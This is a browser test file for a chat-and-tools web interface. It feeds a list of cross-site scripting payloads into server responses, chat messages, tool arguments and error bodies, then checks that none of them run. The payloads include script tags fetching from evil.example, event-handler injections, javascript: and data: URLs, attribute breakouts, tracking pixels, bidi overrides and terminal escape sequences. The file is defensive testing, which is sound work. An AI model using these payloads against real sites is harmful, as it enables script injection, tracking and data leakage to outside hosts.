// Every text that the server tells, on every screen, made hostile in every way that is known here: nothing runs, no request leaves.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { closeBrowser, lookAt, say, startPlace } from "./place.mjs";

/** Scripts, handlers, addresses that run, frames, forms, pictures that tell, escapes of terminals, and what turns writing around. */
const PAYLOAD = [
  "<script>window.hacked=1;fetch('https://evil.example/script')</script>",
  "<img src=https://evil.example/pixel onerror=window.hacked=2>",
  "![t](https://evil.example/track.png) ![d](data:text/html,<script>window.hacked=3</script>)",
  "[c](javascript:window.hacked=4) [d](data:text/html,<script>window.hacked=5</script>) [v](vbscript:x) <javascript:window.hacked=6>",
  "<iframe src=https://evil.example/frame srcdoc='<script>parent.hacked=7</script>'></iframe><object data=https://evil.example/o></object>",
  "<form action=https://evil.example/form><button autofocus onfocus=window.hacked=8>Send</button></form>",
  "<svg onload=window.hacked=9><style>@import 'https://evil.example/s.css'</style></svg><link rel=stylesheet href=https://evil.example/l.css>",
  "<a href=https://evil.example/ onmouseover=window.hacked=10 style='position:fixed;inset:0' ping=https://evil.example/ping>cover</a><base href=https://evil.example/>",
  "\" onmouseover=\"window.hacked=11\" x=\"' onfocus='window.hacked=12' autofocus '",
  "<meta http-equiv=refresh content='0;url=https://evil.example/m'><video src=https://evil.example/v autoplay></video>",
  "\u202Egnp.exe\u2066\u2069\u200F \u001b[31mred\u001b[0m\u001b]0;title\u0007 \u001b]8;;https://evil.example/\u0007link\u0007",
].join("\n\n");

/** The texts among what the API tells; the rest are names that we choose, numbers and times. */
const texts = new Set(["title", "name", "display_name", "detail", "message", "description", "last_error", "error", "error_text", "errorText", "reason", "problem", "text",
  "output", "origin", "server", "server_id", "serverId", "tool_name", "toolName", "excerpt", "raw", "line", "dialect", "command", "url", "content", "delta", "rule", "why", "diagnostic",
  "finish_reason_raw", "label"]);

/** The same with the payload at the end of every text. */
function poisoned(value, key = "") {
  if (typeof value === "string") return texts.has(key) ? `${value} ${PAYLOAD}` : value;
  if (Array.isArray(value)) return value.map((one) => poisoned(one, key));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poisoned(one, name)]));
}

let place;
before(async () => {
  place = await startPlace({ config: '[mcp.servers.broken]\ncommand = "/no/such/program"\n[budgets.day]\ntokens = 1000000\n[models."scripted/one"]\nprices = { input = 2.0, output = 10.0 }\n' });
});
after(async () => { await closeBrowser(); await place?.stop(); });

async function nothingHappened(page, where) {
  for (const one of await page.locator(".md a, .card summary, bdi").all()) await one.hover({ force: true, timeout: 500 }).catch(() => {});
  const found = await page.evaluate(() => ({
    hacked: window.hacked,
    foreign: [...document.querySelectorAll("#root script, #root iframe, #root object, #root link, #root base, #root meta, #root video, #root style, .md form, .md svg:not(.icon), .md img, .md [style], [onmouseover], [onerror], [onload], [onfocus], [ping]")].map((node) => node.outerHTML.slice(0, 100)),
    links: [...document.querySelectorAll("#root a[href]")].filter((link) => !["http:", "https:"].includes(link.protocol)).map((link) => link.href),
    // The texts of fields are the person's own.
    turned: /[\u202a-\u202e\u2066-\u2069\u001b\u0007]/.test(document.body.innerText),
    title: /[\u202a-\u202e\u001b]/.test(document.title),
  }));
  assert.deepEqual(found, { hacked: undefined, foreign: [], links: [], turned: false, title: false }, where);
  assert.deepEqual([page.strangers, page.wrong], [[], []], where);
}

test("no text of the server does anything, whatever it says and wherever it is shown", async () => {
  const page = await lookAt(place);
  await say(page, "hello");
  await page.getByText("You said: hello").waitFor();
  await say(page, 'both filesystem__read filesystem__stat {"path":"no-such-file"}');
  await page.getByText("The tool said").waitFor();
  const usual = new URL(page.url()).hash;
  await page.goto(`${place.base}/#/`);
  await say(page, 'tool filesystem__write {"path":"x.txt","content":"x"}');
  await page.getByRole("button", { name: "Allow once" }).waitFor();
  const waiting = new URL(page.url()).hash;
  await page.context().route(/\/api\/v1\//, async (route) => {
    if (route.request().method() !== "GET" || /\/(stream|events)/.test(route.request().url())) return route.fallback();
    const response = await route.fetch();
    const told = await response.json().catch(() => null);
    return told === null ? route.fulfill({ response }) : route.fulfill({ response, json: poisoned(told) });
  });
  const screens = [usual, waiting, `${usual}/turn_1`, "#/inbox", "#/servers", "#/usage", "#/settings", "#/"];
  for (const screen of screens) {
    await page.goto("about:blank");
    await page.goto(`${place.base}/${screen}`);
    await page.locator("main").getByText("hacked").first().waitFor({ timeout: 5_000 }).catch(() => {});
    for (const summary of await page.locator("summary").all()) await summary.click({ force: true, timeout: 1_000 }).catch(() => {});
    await nothingHappened(page, screen);
  }
});

test("what people, models and tools say does nothing while it streams, and nothing after", async () => {
  const page = await lookAt(place);
  await say(page, PAYLOAD);
  await page.getByRole("button", { name: "Copy answer" }).waitFor();
  await nothingHappened(page, "a message and its answer");
  await say(page, `tool command__run ${JSON.stringify({ command: `printf '%s' "$P"; printf '%s' '${PAYLOAD.replaceAll("'", "")}' >&2; exit 3` })}`);
  await page.getByRole("button", { name: "Allow once" }).waitFor();
  await nothingHappened(page, "the arguments of a call");
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("The tool said").waitFor();
  for (const summary of await page.locator(".card summary").all()) await summary.click();
  await nothingHappened(page, "a result");
});

test("what a refusal says does nothing, in the flow and in a message at the edge", async () => {
  const page = await lookAt(place);
  const refusing = (route) => route.request().method() === "GET" ? route.fallback()
    : route.fulfill({ status: 422, contentType: "application/problem+json", body: JSON.stringify({ detail: PAYLOAD, code: "x", errors: [{ field: "content", message: PAYLOAD }] }) });
  await page.route("**/api/v1/conversations", refusing);
  await say(page, "hello");
  await page.locator(".toast").waitFor();
  await nothingHappened(page, "a message at the edge");
  await page.unroute("**/api/v1/conversations");
  await page.route("**/messages", refusing);
  await page.getByRole("textbox").first().press("Enter");
  await page.getByText("Not sent:").waitFor();
  await nothingHappened(page, "a refusal in the flow");
  await page.goto(`${place.base}/#/servers`);
  await page.route("**/api/v1/mcp/servers", refusing);
  await page.getByRole("button", { name: "Add a server" }).click();
  await page.getByLabel("Name", { exact: true }).fill("x");
  await page.getByLabel("Command", { exact: true }).fill("x");
  await page.getByRole("button", { name: "Add and start" }).click();
  await page.getByRole("alert").first().waitFor();
  await nothingHappened(page, "a refusal in a form");
});
